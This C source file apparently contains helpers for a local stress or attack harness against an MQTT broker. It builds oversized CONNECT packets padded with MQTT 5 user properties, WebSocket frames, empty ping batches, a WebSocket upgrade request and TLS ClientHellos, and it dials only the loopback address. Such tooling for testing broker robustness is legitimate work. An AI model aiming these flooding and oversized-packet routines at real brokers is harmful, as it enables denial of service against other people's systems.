#include "attack.h"
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/tcp.h>
#include <openssl/ssl.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

double now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static size_t text(uint8_t *to, const void *bytes, size_t n)
{
    to[0] = (uint8_t)(n >> 8);
    to[1] = (uint8_t)n;
    memcpy(to + 2, bytes, n);
    return n + 2;
}

size_t connect_packet(uint8_t *to, const char *id, size_t size, bool old)
{
    // It grows by user properties, which only MQTT 5 has.
    uint8_t *body = to + 5;
    size_t n = text(body, "MQTT", 4), properties = 0;
    body[n++] = old ? 4 : 5;
    body[n++] = 2;
    body[n++] = 0;
    body[n++] = 60;
    if (!old) {
        size_t fixed = n + 4 + strlen(id) + 2 + 5;
        properties = size > fixed ? size - fixed : 0;
        for (int i = 0; i < (properties > 127 ? 4 : 1); i++) {
            uint8_t low = (uint8_t)((properties >> (7 * i)) & 127);
            body[n++] = properties > 127 && i < 3 ? low | 128 : low;
        }
        for (size_t left = properties; left > 0;) {
            // Of the name "a": identifier, name, value.
            if (left < 6)
                break;
            size_t value = left > 60000 + 16 ? 60000 : left - 6;
            body[n++] = 0x26;
            n += text(body + n, "a", 1);
            body[n] = (uint8_t)(value >> 8);
            body[n + 1] = (uint8_t)value;
            memset(body + n + 2, 'v', value);
            n += value + 2;
            left -= value + 6;
        }
    }
    n += text(body + n, id, strlen(id));
    to[0] = 0x10;
    int shift = n > 2097151 ? 4 : n > 16383 ? 3 : n > 127 ? 2 : 1;
    for (int i = 0; i < shift; i++)
        to[1 + i] = (uint8_t)(((n >> (7 * i)) & 127) | (i < shift - 1 ? 128 : 0));
    memmove(to + 1 + shift, body, n);
    return 1 + (size_t)shift + n;
}

size_t frame_header(uint8_t *to, size_t payload)
{
    size_t n = 2;
    to[0] = 0x82;
    if (payload < 126) {
        to[1] = (uint8_t)(128 | payload);
    } else {
        to[1] = 128 | 126;
        to[n++] = (uint8_t)(payload >> 8);
        to[n++] = (uint8_t)payload;
    }
    memset(to + n, 0, 4);
    return n + 4;
}

size_t empty_pings(uint8_t *to, int count)
{
    for (int i = 0; i < count; i++)
        memcpy(to + 6 * i, "\x89\x80\0\0\0\0", 6);
    return (size_t)count * 6;
}

int dial(int port, const char *from, bool wait)
{
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | (wait ? 0 : SOCK_NONBLOCK), 0), one = 1;
    if (fd < 0)
        return -1;
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    struct timeval patience = {.tv_sec = 10};
    setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
    setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof patience);
    if (from) {
        struct sockaddr_in own = {.sin_family = AF_INET};
        inet_pton(AF_INET, from, &own.sin_addr);
        setsockopt(fd, IPPROTO_IP, 24 /* IP_BIND_ADDRESS_NO_PORT */, &one, sizeof one);
        if (bind(fd, (struct sockaddr *)&own, sizeof own) != 0)
            die("bind %s: %s", from, strerror(errno));
    }
    if (connect(fd, (struct sockaddr *)&to, sizeof to) == 0 || errno == EINPROGRESS)
        return fd;
    close(fd);
    return -1;
}

bool send_all(int fd, const void *data, size_t n)
{
    for (const char *at = data; n > 0;) {
        ssize_t sent = send(fd, at, n, MSG_NOSIGNAL);
        if (sent <= 0)
            return false;
        at += sent;
        n -= (size_t)sent;
    }
    return true;
}

bool upgrade(int fd)
{
    static const char request[] = "GET /mqtt HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
                                  "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Protocol: mqtt\r\n\r\n";
    char answer[2048];
    size_t got = 0;
    if (!send_all(fd, request, sizeof request - 1))
        return false;
    while (got < sizeof answer - 1) {
        ssize_t n = recv(fd, answer + got, sizeof answer - 1 - got, 0);
        if (n <= 0)
            return false;
        got += (size_t)n;
        answer[got] = 0;
        if (strstr(answer, "\r\n\r\n"))
            return strncmp(answer, "HTTP/1.1 101", 12) == 0;
    }
    return false;
}

size_t client_hello(uint8_t *to, size_t room)
{
    SSL_CTX *context = SSL_CTX_new(TLS_client_method());
    SSL *ssl = SSL_new(context);
    BIO *out = BIO_new(BIO_s_mem());
    SSL_set_bio(ssl, BIO_new(BIO_s_mem()), out);
    SSL_set_connect_state(ssl);
    SSL_do_handshake(ssl);
    int n = BIO_read(out, to, (int)room);
    SSL_free(ssl);
    SSL_CTX_free(context);
    return n > 0 ? (size_t)n : 0;
}
